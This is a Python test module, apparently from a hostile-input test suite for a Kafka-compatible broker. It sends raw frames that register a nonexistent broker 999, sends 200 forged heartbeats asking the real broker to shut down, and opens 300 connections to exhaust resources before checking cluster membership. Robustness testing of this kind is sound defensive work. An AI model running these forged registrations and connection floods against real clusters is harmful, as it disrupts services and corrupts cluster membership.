"""A client asks the agent to leave, registers an agent that does not exist, and takes all connections."""

from __future__ import annotations

import asyncio
import io
import struct
import uuid

from confluent_kafka.admin import AdminClient
from kio.schema.broker_registration.v0.request import BrokerRegistrationRequest, Feature, Listener
from kio.schema.types import BrokerId
from kio.serial import entity_writer
from kio.static.primitive import i16, u16

from tests.hostile.attacked_agent import AttackedAgent
from tests.hostile.frames import METADATA, ask, request

_REGISTRATION, _HEARTBEAT = 62, 63
_CONNECTIONS = 300


def heartbeat(node_id: int, epoch: int) -> bytes:
    """Make a heartbeat of the agent's own registration, which wants to shut down."""
    body = struct.pack(">iqqbb", node_id, epoch, 1 << 40, 0, 1) + b"\0"
    return request(_HEARTBEAT, 0, body, flexible=True)


def registration(cluster_id: str) -> bytes:
    """Return the registration of an agent 999 that does not exist."""
    listener = Listener(name="PLAINTEXT", host="127.0.0.2", port=u16(9092), security_protocol=i16(0))
    wanted = BrokerRegistrationRequest(
        broker_id=BrokerId(999), cluster_id=cluster_id, incarnation_id=uuid.UUID(int=9), listeners=(listener,),
        features=tuple(
            Feature(name=name, min_supported_version=i16(0), max_supported_version=i16(9))
            for name in ("metadata.format", "transaction.version")
        ),
        rack=None,
    )  # fmt: skip
    body = io.BytesIO()
    entity_writer(BrokerRegistrationRequest)(body, wanted)
    return request(_REGISTRATION, 0, body.getvalue(), flexible=True)


async def attack(target: AttackedAgent) -> str:
    """Then ask who is in the cluster."""
    node_id = 1
    cluster_id = await asyncio.to_thread(_cluster_id, target.bootstrap)
    frames = [registration(cluster_id), *(heartbeat(node_id, epoch) for epoch in range(200))]
    answers = [bool(await ask(*target.kafka, frame, 5.0)) for frame in frames]
    opened = [await asyncio.open_connection(*target.kafka) for _ in range(_CONNECTIONS)]
    metadata = await ask(*target.kafka, request(METADATA, 1, struct.pack(">i", 0)), 10.0)
    for _, writer in opened:
        writer.close()
    brokers = struct.unpack_from(">i", metadata, 4)[0] if metadata else 0
    return f"{sum(answers)} of {len(answers)} membership requests were answered; the cluster has {brokers} agent(s)"


def _cluster_id(bootstrap: str) -> str:
    return str(AdminClient({"bootstrap.servers": bootstrap}).list_topics(timeout=30).cluster_id)
